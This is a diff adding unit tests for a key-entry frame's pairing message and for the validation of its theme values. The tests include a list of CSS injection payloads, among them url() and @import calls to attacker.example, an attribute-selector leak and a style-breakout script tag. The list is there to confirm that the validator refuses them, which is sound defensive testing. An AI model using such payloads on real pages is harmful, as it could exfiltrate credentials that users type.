@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import {describe, it} from 'node:test';
-import {isKeysFrameIn} from './keys-frame.ts';
+import {isKeysFrameIn, isKeysFramePairing, isSafeThemeValue} from './keys-frame.ts';
 
 describe('messages to the key-entry frame', () => {
   const state = {heading: 'Pricing credentials', errors: {}, accepted: false};
@@ -11,5 +11,71 @@ describe('messages to the key-entry frame', () => {
   it('refuse an expected user that is not a string', () => {
     assert.equal(isKeysFrameIn({type: 'state', state: {...state, expectedUserName: 7}}), false);
     assert.equal(isKeysFrameIn({type: 'state', state: {...state, expectedUserName: {name: 'x'}}}), false);
+  });
+});
+
+describe("the key-entry frame's pairing and the tab's look it carries", () => {
+  const pairing = {boa: 'keys-pair', token: 'one-time-token', language: 'en'};
+  // The values the console's look gives, as computed styles serialise them (console-theme.ts).
+  const theme = {
+    primaryBg: 'rgb(0, 105, 192)',
+    primaryBorder: 'rgba(0, 85, 153, 0.8)',
+    buttonPadding: '4px 12px 4px 12px',
+    buttonRadius: '4px',
+    fontFamily: '"Helvetica Neue", Helvetica, Arial, sans-serif',
+    fontSize: '14px',
+    inputBorderColor: 'rgb(118 118 118 / 90%)',
+  };
+
+  it("is accepted with the console's look, or with none read", () => {
+    assert.equal(isKeysFramePairing({...pairing, theme}), true);
+    assert.equal(isKeysFramePairing({...pairing, theme: {}}), true);
+  });
+
+  it('is refused without a theme, or with one that is not a plain object', () => {
+    assert.equal(isKeysFramePairing(pairing), false);
+    for (const bad of [null, 'rgb(0, 0, 0)', ['rgb(0, 0, 0)']]) assert.equal(isKeysFramePairing({...pairing, theme: bad}), false, JSON.stringify(bad));
+  });
+
+  it('is refused with a property the tab does not theme, or a value that is not a string', () => {
+    assert.equal(isKeysFramePairing({...pairing, theme: {...theme, background: 'rgb(0, 0, 0)'}}), false);
+    assert.equal(isKeysFramePairing({...pairing, theme: {...theme, '--boa-primary-bg': 'rgb(0, 0, 0)'}}), false);
+    assert.equal(isKeysFramePairing({...pairing, theme: {...theme, fontSize: 14}}), false);
+    assert.equal(isKeysFramePairing({...pairing, theme: {...theme, primaryBg: undefined}}), false);
+  });
+
+  // What a page that spoiled the console's computed styles could hand the frame, the secret's side.
+  const injections = [
+    'red; background: url(https://attacker.example/leak)',
+    'red} input[value^="A"] { background: red',
+    'red { }',
+    'url(https://attacker.example/leak)',
+    'URL(https://attacker.example/leak)',
+    'image-set("https://attacker.example/leak" 1x)',
+    '-webkit-image-set("https://attacker.example/leak" 1x)',
+    'var(--page-property)',
+    'attr(value)',
+    'env(safe-area-inset-top)',
+    '</style><script>alert(1)</script>',
+    '\\75 rl(https://attacker.example/leak)',
+    'red /* comment */',
+    'red !important',
+    '"Helvetica"\n; color: red',
+    'rgb(0, 0, 0) url(https://attacker.example/leak)',
+    'xrgb(0, 0, 0)',
+    '@import "https://attacker.example/x.css"',
+    `${'a'.repeat(201)}`,
+    '',
+  ];
+  for (const value of injections) {
+    it(`is refused with a theme value that could inject CSS: ${JSON.stringify(value.slice(0, 60))}`, () => {
+      assert.equal(isSafeThemeValue(value), false);
+      assert.equal(isKeysFramePairing({...pairing, theme: {...theme, fontFamily: value}}), false);
+    });
+  }
+
+  it('takes the theme values the console gives', () => {
+    for (const value of Object.values(theme)) assert.equal(isSafeThemeValue(value), true, value);
+    assert.equal(isSafeThemeValue("'Open Sans', sans-serif"), true);
   });
 });
